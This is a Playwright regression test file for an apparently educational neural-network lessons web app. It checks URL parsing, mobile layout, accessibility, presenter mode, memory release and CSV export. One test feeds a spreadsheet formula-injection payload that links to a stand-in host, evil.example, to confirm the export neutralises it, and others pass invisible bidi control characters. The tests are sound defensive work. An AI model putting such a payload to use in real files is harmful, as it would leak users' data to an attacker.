import type { Page } from '@playwright/test';
import { axeViolations, expect, test } from './fixtures';

/** Regression tests for issue 16 ("What a tester broke"). */

const SLUGS = ['relu-vs-sigmoid', 'vanishing-gradients', 'convolution', 'layer-wise-pretraining', 'optimizers'];

const play = (page: Page) =>
  page
    .getByRole('group', { name: 'Training controls' })
    .first()
    .getByRole('button', { name: /play|pause/i });

test.describe('1. a malformed page query never breaks a lesson', () => {
  for (const slug of SLUGS) {
    test(slug, async ({ watched: page }) => {
      for (const query of ['?x=%', '?present=1%', '?backend=%E0%A4%A']) {
        await page.goto(`/${query}#/lessons/${slug}`);
        await expect(play(page)).toBeEnabled({ timeout: 60_000 });
        await expect(page.getByText('This lesson failed to load')).toHaveCount(0);
        await expect(page.getByTestId('notice-page-query')).toBeVisible();
        if (query.includes('backend')) await expect(page.getByTestId('notice-backend-flag')).toBeVisible();
      }
    });
  }
});

test.describe('6. on a phone (390×844) no page scrolls sideways and Play is on the first screen', () => {
  test.use({ viewport: { width: 390, height: 844 } });
  for (const slug of SLUGS) {
    test(slug, async ({ watched: page }) => {
      await page.goto(`/#/lessons/${slug}`);
      await expect(play(page)).toBeEnabled({ timeout: 60_000 });
      const width = await page.evaluate(() => document.scrollingElement!.scrollWidth);
      expect(width).toBeLessThanOrEqual(390);
      // The lesson's first transport (in the optimizers lesson: the surface lab's, "Play paths").
      const box = await page.locator('.transport .play').first().boundingBox();
      expect(box!.y).toBeLessThan(844);
    });
  }
});

test.describe('11. axe: no violations of moderate severity or above', () => {
  for (const slug of SLUGS) {
    test(slug, async ({ watched: page }) => {
      await page.goto(`/#/lessons/${slug}`);
      await expect(play(page)).toBeEnabled({ timeout: 60_000 });
      expect(await axeViolations(page)).toEqual([]);
    });
  }
});

test.describe('7. things that should not persist', () => {
  test('a bad saved setting is reported once, then written back repaired', async ({ watched: page }) => {
    await page.goto('/#/');
    await page.evaluate(() => localStorage.setItem('hidden-layers:settings', '{"backend":"gpu","motion":"reduce"}'));
    await page.reload();
    await expect(page.getByTestId('notice-settings')).toBeVisible();
    const saved = await page.evaluate(() => JSON.parse(localStorage.getItem('hidden-layers:settings')!));
    expect(saved).toEqual({ backend: 'auto', motion: 'reduce', theme: 'system' });
    await page.reload();
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect(page.getByTestId('notice-settings')).toHaveCount(0);
  });

  for (const url of ['/?present=1#/lessons/relu-vs-sigmoid?lr=0.3', '/#/lessons/relu-vs-sigmoid?lr=0.3&present=1']) {
    test(`leaving presenter mode takes present=1 out of the URL (${url})`, async ({ watched: page }) => {
      await page.goto(url);
      await expect(page.locator('html')).toHaveClass(/presenter/);
      await expect(play(page)).toBeEnabled();
      await page.keyboard.press('Escape');
      await expect(page.locator('html')).not.toHaveClass(/presenter/);
      await expect(page).not.toHaveURL(/present/);
      await expect(page).toHaveURL(/#\/lessons\/relu-vs-sigmoid\?lr=0\.3$/);
      // A later parameter change must not bring it back, and a reload stays out of presenter mode.
      await page.getByRole('combobox', { name: 'Dataset' }).selectOption('spiral');
      await expect(page).toHaveURL(/dataset=spiral/);
      await expect(page).not.toHaveURL(/present/);
      await page.reload();
      await expect(play(page)).toBeEnabled();
      await expect(page.locator('html')).not.toHaveClass(/presenter/);
    });
  }
});

test.describe('8. small but visible', () => {
  test('a right-to-left override in a link value is not echoed into the notice', async ({ watched: page }) => {
    await page.goto('/?backend=%E2%80%AEgpu#/lessons/relu-vs-sigmoid?dataset=%E2%80%AEspiral');
    await expect(play(page)).toBeEnabled();
    const text = (await page.getByRole('region', { name: 'Notices' }).textContent())!;
    expect(text).toContain('"spiral"');
    expect(text).toContain('"gpu"');
    expect(text).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200E\u200F\u061C]/);
  });

  test('convolution: an empty pad asks for a digit; test digit #1 is the same digit before and after training starts', async ({
    watched: page,
  }) => {
    await page.goto('/#/lessons/convolution');
    await expect(play(page)).toBeEnabled({ timeout: 60_000 });
    const source = page.locator('.cnn-probs > p.small');
    const first = (await source.textContent())!;
    expect(first).toMatch(/^test digit #1 \(a \d\)$/);
    await page.getByRole('group', { name: 'Training controls' }).getByRole('button', { name: 'Step' }).click();
    await expect(page.getByTestId('step-count')).toHaveText('1');
    const pad = page.locator('.cnn-draw');
    await pad.getByRole('button', { name: 'Load', exact: true }).click();
    await expect(source).toHaveText(first);
    await expect(page.locator('.cnn-probs figcaption')).toContainText('CNN says');
    await pad.getByRole('button', { name: 'Clear', exact: true }).click();
    await expect(page.locator('.cnn-probs figcaption')).toContainText('draw a digit');
    await expect(page.locator('.cnn-probs figcaption')).not.toContainText('says');
  });
});

/* ---------- Issue 26 ("what a tester found, round two") ---------- */

const CHART = /^Export: Training \(solid\) and test \(dashed\) loss/;

/** The text of the run's CSV, downloaded through the chart's Export menu. */
async function downloadCsv(page: Page): Promise<string> {
  await page.getByRole('button', { name: CHART }).first().click();
  const wait = page.waitForEvent('download');
  await page.getByRole('menuitem', { name: 'Download CSV', exact: true }).click();
  const { readFile } = await import('node:fs/promises');
  return readFile((await (await wait).path())!, 'utf8');
}

test.describe('26. what a tester found, round two', () => {
  test('3. a remembered backend choice that cannot be read is repaired and reported once', async ({
    watched: page,
  }) => {
    await page.goto('/#/');
    await page.evaluate(() => localStorage.setItem('hidden-layers:backend-verdicts', 'true'));
    await page.goto('/#/lessons/relu-vs-sigmoid');
    await expect(play(page)).toBeEnabled({ timeout: 60_000 });
    await expect(page.getByTestId('notice-backend-verdicts')).toBeVisible();
    const stored = await page.evaluate(
      () => JSON.parse(localStorage.getItem('hidden-layers:backend-verdicts')!) as unknown,
    );
    expect(typeof stored === 'object' && stored !== null && !Array.isArray(stored)).toBe(true);
    await page.reload();
    await expect(play(page)).toBeEnabled({ timeout: 60_000 });
    await expect(page.getByTestId('notice-backend-verdicts')).toHaveCount(0);
  });

  test('4. a value with invisible control characters is refused, and the notice says so', async ({ watched: page }) => {
    await page.goto('/?backend=%E2%80%AEwasm#/lessons/relu-vs-sigmoid?dataset=%E2%80%AEspiral');
    await expect(play(page)).toBeEnabled({ timeout: 60_000 });
    await expect(page.getByTestId('notice-backend-flag')).toContainText(
      'backend: "wasm" contains invisible control characters (left out here), so it was not read; choosing automatically',
    );
    await expect(page.getByTestId('notice-params-relu-vs-sigmoid')).toContainText(
      'dataset: "spiral" contains invisible control characters (left out here), so it was not read; using',
    );
    const text = (await page.getByRole('region', { name: 'Notices' }).textContent())!;
    expect(text).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200E\u200F\u061C]/);
  });

  test('14. leaving a lesson lets its page go: the DOM node count returns to about the home page’s', async ({
    watched: page,
  }) => {
    const cdp = await page.context().newCDPSession(page);
    const nodesAfterGc = async () => {
      for (let i = 0; i < 3; i++) await cdp.send('HeapProfiler.collectGarbage');
      return ((await cdp.send('Memory.getDOMCounters')) as { nodes: number }).nodes;
    };
    await page.goto('/#/');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const home = await nodesAfterGc();
    await page.evaluate(() => (location.hash = '#/lessons/relu-vs-sigmoid'));
    await expect(play(page)).toBeEnabled({ timeout: 60_000 });
    // The formulas are typeset (near the screen or in idle time) before the lesson is left.
    await expect(page.locator('.katex').first()).toBeAttached({ timeout: 20_000 });
    const lesson = await nodesAfterGc();
    await page.evaluate(() => (location.hash = '#/'));
    await expect(page.locator('a[href*="#/lessons/relu-vs-sigmoid"]').first()).toBeVisible();
    await page.waitForTimeout(500);
    const after = await nodesAfterGc();
    expect(lesson, `the lesson page has ${lesson} nodes, home ${home}`).toBeGreaterThan(home * 3);
    expect(after, `after leaving: ${after} nodes (home ${home}, lesson ${lesson})`).toBeLessThan(home * 2);
  });

  test('9. invalid link values leave the address bar once their notice is shown; the copied link holds the repaired values', async ({
    watched: page,
  }) => {
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await page.goto('/?backend=gpu&present=maybe#/lessons/relu-vs-sigmoid?depth=999&seed=123456&lr=abc&fault=nonsense');
    await expect(play(page)).toBeEnabled({ timeout: 60_000 });
    await expect(page.getByTestId('notice-params-relu-vs-sigmoid')).toBeVisible();
    await expect(page.getByTestId('notice-backend-flag')).toBeVisible();
    await expect(page.getByTestId('notice-present-flag')).toBeVisible();
    await expect(page).toHaveURL(/#\/lessons\/relu-vs-sigmoid\?depth=6&seed=9999$/);
    expect(new URL(page.url()).search).toBe('');
    await page.getByRole('button', { name: CHART }).first().click();
    await page.getByRole('menuitem', { name: 'Copy link to this experiment' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'Link copied' })).toBeVisible();
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    expect(copied).toMatch(/\/#\/lessons\/relu-vs-sigmoid\?depth=6&seed=9999$/);
    expect(copied).not.toMatch(/gpu|maybe|abc|123456|999&|nonsense/);
    await page.reload();
    await expect(play(page)).toBeEnabled({ timeout: 60_000 });
    for (const id of ['params-relu-vs-sigmoid', 'backend-flag', 'present-flag'])
      await expect(page.getByTestId(`notice-${id}`)).toHaveCount(0);
  });

  test('8. the CSV names the seed and settings the run used, and holds no formula cell', async ({ watched: page }) => {
    await page.goto('/#/lessons/relu-vs-sigmoid?depth=999&seed=123456&lr=abc');
    await expect(play(page)).toBeEnabled({ timeout: 60_000 });
    await page.getByRole('group', { name: 'Training controls' }).first().getByRole('button', { name: 'Step' }).click();
    await expect(page.getByTestId('step-count').first()).not.toHaveText('0');
    const csv = await downloadCsv(page);
    expect(csv).toContain('"# seed: 9999"');
    expect(csv).toMatch(/"# settings: [^"]*depth=6[^"]*seed=9999/);
    expect(csv).toMatch(/"# settings: [^"]*lr=0\.1(&|")/);

    await page.goto('/#/lessons/relu-vs-sigmoid?seed=1,=HYPERLINK("http://evil.example/?leak="%26A3,"help")');
    await expect(play(page)).toBeEnabled({ timeout: 60_000 });
    await page.getByRole('group', { name: 'Training controls' }).first().getByRole('button', { name: 'Step' }).click();
    await expect(page.getByTestId('step-count').first()).not.toHaveText('0');
    const evil = await downloadCsv(page);
    expect(evil).toContain('"# seed: 1"');
    // Every line is either one quoted header cell or cells that are numbers or quoted text.
    for (const line of evil.trim().split('\n')) {
      expect(line, line).toMatch(/^("([^"]|"")*"|-?[\d.e+-]*)(,("([^"]|"")*"|-?[\d.e+-]*))*$/);
      expect(line, line).not.toMatch(/(^|,)"?[=+@\t\r]/);
    }
  });
});
